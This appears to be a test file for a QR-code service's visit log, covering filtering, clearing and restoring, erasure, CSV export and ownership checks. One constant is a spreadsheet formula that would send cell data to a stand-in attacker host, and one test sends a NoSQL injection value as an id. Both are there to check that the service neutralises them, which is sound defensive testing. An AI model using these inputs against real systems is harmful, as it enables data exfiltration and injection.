import { beforeAll, expect, setDefaultTimeout, test } from 'bun:test';
import { createAccount } from '../accounts.ts';
import { type Api, apiOf, signIn } from '../api.ts';
import { download, readCsv, runOperation } from '../operations.ts';
import type { Product } from '../product.ts';
import { until } from '../security/world.ts';
import { shareProduct } from '../shared-product.ts';

// What owners and their programs do with single visits, over the product as it runs.

const PHONE =
  'Mozilla/5.0 (Linux; Android 14; 23049RAD8C Build/UKQ1; wv) AppleWebKit/537.36 Chrome/116.0 Mobile Safari/537.36 MicroMessenger/8.0.47';
const DESK =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';

setDefaultTimeout(180_000);
let product: Product;
let anna: Api;
let ben: Api;

beforeAll(async () => {
  product = await shareProduct();
  const role = 'customer';
  anna = await signIn(product.origin, await createAccount(product, { account: 'anna.kept', role }));
  ben = await signIn(product.origin, await createAccount(product, { account: 'ben.kept', role }));
}, 180_000);

interface Made {
  id: string;
  qr_url: string;
}
interface Kept {
  id: string;
  ip: string;
  target: number;
  app: string;
  kind: string;
}
interface Cleared {
  cleared: number;
  clearing: { id: string; count: number; time: string; until: string } | null;
}

const targets = [{ url: 'https://example.com/first' }, { url: 'https://example.com/second' }];
const add = async (api: Api, body: object = {}) =>
  (
    await api.call<Made>('qr_code_list/add', {
      name: 'Kept',
      open_log: 2,
      targets,
      rotation_model: 3,
      jump_type: 6,
      ...body,
    })
  ).content;
const come = async ({ qr_url }: Made, address: string, agent = DESK) =>
  void (await (
    await fetch(qr_url, {
      redirect: 'manual',
      headers: { 'user-agent': agent, 'x-forwarded-for': address },
    })
  ).arrayBuffer());
const access = <T>(api: Api, call: string, body: object) => api.call<T>(`qr_code_access/${call}`, body);
const kept = async (api: Api, id: string, wish: object = {}) =>
  (await access<{ content: Kept[]; count: number }>(api, 'inquire', { id, ...wish })).content;
const ips = async (api: Api, id: string, wish: object = {}) =>
  (await kept(api, id, wish)).content.map(({ ip }) => ip);
/** A code with these visits, once they are counted. */
async function visited(addresses: readonly string[], agents: readonly string[] = []): Promise<Made> {
  const code = await add(anna);
  for (const [at, address] of addresses.entries()) await come(code, address, agents[at]);
  await until(
    async () => (await kept(anna, code.id)).count,
    (count) => count === addresses.length,
  );
  return code;
}
/** Every total of a code. */
const totals = async (id: string) => {
  const { view_number, ip_view_number, bot_view_number } = (
    await anna.call<Record<string, number>>('qr_code_list/details', { id })
  ).content;
  const today = { range: 'today', link: id };
  // Until which minute the day before counts is no total: it is the clock's.
  const { previous_until: _minute, ...days } = (
    await anna.call<Record<string, unknown>>('daily_statistics/inquire', today)
  ).content;
  return { view_number, ip_view_number, bot_view_number, days };
};

test('an owner reads the visits of a code one by one and finds among them; where the log is closed none is kept', async () => {
  const code = await visited(['203.0.113.1', '203.0.113.2', '2001:db8::7'], [DESK, PHONE]);
  const all = await ips(anna, code.id);
  // Two of a moment stand in either order.
  expect(all.toSorted()).toEqual(['2001:db8::7', '203.0.113.1', '203.0.113.2']);
  expect(await ips(anna, code.id, { app: ['wechat'], kind: ['phone'] })).toEqual(['203.0.113.2']);
  expect(await ips(anna, code.id, { ip: '2001:DB8::7' })).toEqual(['2001:db8::7']);
  const pages = [1, 2].map((page) => ips(anna, code.id, { page, page_size: 2 }));
  expect((await Promise.all(pages)).flat()).toEqual(all);
  const { content: led } = await access<{ targets: { key: number; target: object }[] }>(anna, 'targets', {
    id: code.id,
  });
  expect(led.targets.map(({ target }) => target)).toMatchObject(targets);
  const found = await Promise.all(led.targets.map(({ key }) => ips(anna, code.id, { target: key })));
  expect(found.flat().sort()).toEqual(['2001:db8::7', '203.0.113.1', '203.0.113.2']);
  expect(found.map(({ length }) => length).sort()).toEqual([1, 2]);

  await anna.call('qr_code_list/update_open_log', { id: code.id, open_log: 1 });
  await until(
    async () => {
      await come(code, '203.0.113.9');
      return (await totals(code.id)).view_number;
    },
    (count) => (count ?? 0) > 4,
  );
  expect(await ips(anna, code.id)).not.toHaveLength(0);
  const silent = await add(anna, { open_log: 1 });
  await come(silent, '203.0.113.9');
  await until(
    async () => (await totals(silent.id)).view_number,
    (count) => count === 1,
  );
  expect(await ips(anna, silent.id)).toEqual([]);
  const { content: known } = await anna.call<{ content: { ip: string; count: number }[] }>(
    'qr_code_list/get_ip',
    { id: silent.id },
  );
  expect(known.content).toMatchObject([{ ip: '203.0.113.9', count: 1 }]);
});

test('a place is found by its name in the letters of whoever asks', async () => {
  const code = await visited(['36.152.44.7', '8.8.8.8']);
  expect(await ips(anna, code.id, { location: 'jiangsu' })).toEqual(['36.152.44.7']);
  expect(await ips(anna, code.id, { location: 'United States' })).toEqual(['8.8.8.8']);
  expect(await ips(anna, code.id, { location: '江苏' })).toEqual(['36.152.44.7']);
  expect(await ips(anna, code.id, { location: '.*' })).toEqual([]);
});

test('what is cleared waits seven days in the bin, comes back whole, and no total changes by any of it', async () => {
  const code = await visited(['203.0.113.1', '203.0.113.2', '203.0.113.3', '203.0.113.1']);
  const before = await totals(code.id);
  const [latest] = (await kept(anna, code.id)).content;
  const chosen = (
    await access<Cleared>(anna, 'clear_record', { id: code.id, visits: [latest?.id, 'nobody.1'] })
  ).content;
  expect(chosen.cleared).toBe(1);
  const { time = '', until: end = '' } = chosen.clearing ?? {};
  expect(Date.parse(end) - Date.parse(time)).toBe(7 * 24 * 60 * 60 * 1000);
  expect((await access<Cleared>(anna, 'clear_access_history', { id: code.id })).content.cleared).toBe(3);
  expect(await ips(anna, code.id)).toEqual([]);
  expect((await access<Cleared>(anna, 'clear_access_history', { id: code.id })).content).toEqual({
    cleared: 0,
    clearing: null,
  });
  const bin = (await access<{ clearings: object[] }>(anna, 'clearings', { id: code.id })).content;
  expect(bin.clearings).toMatchObject([
    { count: 3, is_whole: true },
    { count: 1, is_whole: false },
  ]);
  const restore = { id: code.id, clearing: chosen.clearing?.id };
  expect((await access(anna, 'restore_access_records', restore)).content).toEqual({ restored: 1 });
  expect((await access(anna, 'restore_access_records', { id: code.id })).content).toEqual({ restored: 3 });
  expect(await ips(anna, code.id)).toHaveLength(4);
  expect((await access(anna, 'erase', { id: code.id, ip: '203.0.113.1' })).content).toEqual({ erased: 2 });
  expect((await ips(anna, code.id)).toSorted()).toEqual(['203.0.113.2', '203.0.113.3']);
  expect(await totals(code.id)).toEqual(before);
  // Who did it stands in the history, and of whom it was nowhere.
  const { content: changes } = await anna.call<{ content: { verb: string }[] }>('qr_code_list/changes', {
    id: code.id,
  });
  expect(changes.content.map(({ verb }) => verb)).toEqual([
    ...['erase_visits', 'restore_visits', 'restore_visits', 'clear_visits', 'clear_visits', 'add'],
  ]);
  expect(JSON.stringify(changes)).not.toContain('203.0.113.1');
});

test('a person is erased from all codes of an owner and from the lists of visitors, and from nobody else’s', async () => {
  const address = '198.51.100.77';
  const [first, second] = [await visited([address]), await visited([address, '198.51.100.78'])];
  const his = await add(ben);
  await come(his, address);
  await until(
    async () => (await kept(ben, his.id)).count,
    (count) => count === 1,
  );
  const before = await totals(second.id);
  expect((await access(anna, 'erase', { ip: address })).content).toEqual({ erased: 2 });
  expect([await ips(anna, first.id), await ips(anna, second.id)]).toEqual([[], ['198.51.100.78']]);
  const visitors = (api: Api, body: object) => api.call<{ count: number }>('visitor/user_inquire', body);
  expect((await visitors(anna, { search: address })).content.count).toBe(0);
  expect(JSON.stringify((await visitors(anna, { link: second.id })).content)).not.toContain(address);
  expect(JSON.stringify((await anna.call('qr_code_list/get_ip', { id: second.id })).content)).not.toContain(
    address,
  );
  expect(await ips(ben, his.id)).toEqual([address]);
  expect(await totals(second.id)).toEqual(before);
});

test('the export has what the list finds, and no cell of it runs in a spreadsheet', async () => {
  const code = await visited(['203.0.113.1', '203.0.113.2', '203.0.113.2'], [DESK, FORMULA]);
  const operation = await runOperation(anna, 'qr_code_access/export_access_records', {
    id: code.id,
    ip: '203.0.113.2',
  });
  expect(operation).toMatchObject({ status: 2, done: 2, total: 2 });
  const file = await (await download(product.origin, anna.token, operation.id)).text();
  const [head = [], ...rows] = readCsv(file);
  expect(head.slice(0, 2)).toEqual(['Time', 'IP address']);
  expect(rows.map((row) => row[1])).toEqual(['203.0.113.2', '203.0.113.2']);
  for (const row of rows) expect(row[head.indexOf('Led to')]).toMatch(/^https:\/\/example\.com\//);
  const agents = rows.map((row) => row[head.indexOf('User agent')]);
  expect(agents).toContain(`'${FORMULA}`);
});

test('another owner’s code answers as one that does not exist, a stranger and a fault are told so', async () => {
  const code = await visited(['203.0.113.1']);
  const [visit] = (await kept(anna, code.id)).content;
  const calls: Record<string, object> = {
    inquire: {},
    targets: {},
    clearings: {},
    export_access_records: {},
    clear_record: { visits: [visit?.id] },
    clear_access_history: {},
    restore_access_records: {},
    erase: { ip: '203.0.113.1' },
  };
  for (const [call, body] of Object.entries(calls)) {
    const path = `qr_code_access/${call}`;
    const theirs = await ben.call(path, { id: code.id, ...body });
    const nobodys = await ben.call(path, { id: '0'.repeat(24), ...body });
    expect([call, theirs.status, theirs.body]).toEqual([call, 404, nobodys.body]);
    expect((await apiOf(product.origin).call(path, { id: code.id, ...body })).status).toBe(401);
    expect((await anna.call(path, { id: { $ne: null }, ...body })).status).toBe(422);
  }
  expect((await ben.call('qr_code_list/get_ip', { id: code.id })).status).toBe(404);
  for (const ip of ['nobody', '203.0.113.256', ''])
    expect((await access(anna, 'erase', { id: code.id, ip })).status).toBe(422);
  expect(await ips(anna, code.id)).toHaveLength(1);
  // Whose code it was is let through to nothing of what was kept.
  const administrator = await signIn(product.origin, product.administrator);
  const { content: me } = await ben.call<{ user_info: { id: string } }>('administrator/profile');
  await administrator.call('qr_code_list/change_owner', { ids: [code.id], owner: me.user_info.id });
  expect((await access(anna, 'inquire', { id: code.id })).status).toBe(404);
  expect(await ips(ben, code.id)).toEqual(['203.0.113.1']);
});
